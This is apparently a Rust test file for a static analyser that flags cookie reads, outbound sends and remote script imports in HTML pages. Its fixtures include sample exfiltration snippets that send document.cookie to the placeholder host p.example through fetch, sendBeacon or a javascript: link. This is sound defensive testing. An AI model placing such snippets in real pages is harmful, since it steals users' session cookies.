//! Pages: what runs in them is read as code of its own, with lines of the page.

#![allow(clippy::unwrap_used)] // A test says what it expects by panicking.

use skill_vet::facts::Unit;
use skill_vet::queries::QuerySet;
use skill_vet::text::Text;

/// Each fact of a page with its line: `3 send first-argument`.
fn facts(page: &str) -> Vec<String> {
    let queries = QuerySet::embedded();
    let Some(unit) = Unit::of_file("page/index.html", None, page, &queries) else { return Vec::new() };
    let text = Text::new(page.into());
    let facts = unit.facts.iter();
    facts
        .map(|fact| {
            let line = text.line_of(fact.span.start);
            format!("{line} {} {}", fact.fact.word(), fact.ids[0])
        })
        .collect()
}

#[test]
fn facts_of_scripts_handlers_and_addresses_have_their_lines() {
    let page = r#"<!doctype html>
<script type="module">
  const jar = document.cookie;
  fetch("https://p.example/in", { body: jar });
</script>
<button title="fetch('https://p.example/none')"
        onclick="navigator.sendBeacon(&quot;https://p.example/in&quot;, document.cookie)">go</button>
<a href="javascript:fetch(%22https://p.example/in%22)">x</a>
<script src="lib/app.js"></script>
<script src="https://cdn.example/lib.js"></script>
<p>fetch("https://p.example/none")</p>
"#;
    assert_eq!(
        facts(page),
        [
            "3 secret.read page-cookies",
            "4 send first-argument",
            "7 send first-argument",
            "7 secret.read page-cookies",
            "8 send first-argument",
            "9 reference require",
            "10 exec remote-import",
        ]
    );
}

#[test]
fn the_scripts_of_a_page_know_each_others_names() {
    let page = r#"<button onclick="post(endpoint)">go</button>
<script>const endpoint = "https://p.example/in";</script>
<script>function post(url) {
  send(url);
}
var send = fetch;</script>
<script>function log(text) { return text; }
log("https://p.example/none");</script>
"#;
    assert_eq!(facts(page), ["4 send first-argument"]);
    // A later script may give a name anew, which hides nothing of what it was before.
    let page = "<script>var send = fetch;</script>\n<script>send('https://p.example/1')</script>\n<script>var send = 1;</script>\n";
    assert_eq!(facts(page), ["2 send first-argument"]);
}

#[test]
fn an_honest_page_has_no_fact() {
    let page = r##"<html><head><title>Report</title><style>a { color: red }</style>
<script type="application/ld+json">{"@type": "Dataset", "url": "https://p.example"}</script></head>
<body><a href="javascript:void(0)" onclick="toggle('a'); return false">more</a>
<form action="https://p.example/search" onsubmit="return check(this)"></form>
<script>
  const rows = [...document.querySelectorAll("tr")];
  function toggle(id) { document.getElementById(id).classList.toggle("open"); }
  const check = (form) => /^\w+$/.exec(form.q.value) !== null;
</script></body></html>
"##;
    assert_eq!(facts(page), [""; 0]);
}

#[test]
fn a_page_of_many_pieces_is_read_to_its_end() {
    let page = "<b onclick=a()>\n".repeat(4100) + "<b onclick=\"fetch('https://p.example/1')\">\n";
    let unit = Unit::of_file("a.html", None, &page, &QuerySet::embedded()).unwrap();
    // The last ones are one source, and the report says so.
    assert!(unit.cut_short.is_some());
    assert_eq!(unit.sources.len(), 4001);
    let lines: Vec<usize> =
        unit.facts.iter().map(|fact| page[..fact.span.start as usize].matches('\n').count() + 1).collect();
    assert_eq!(lines, [4101]);
}
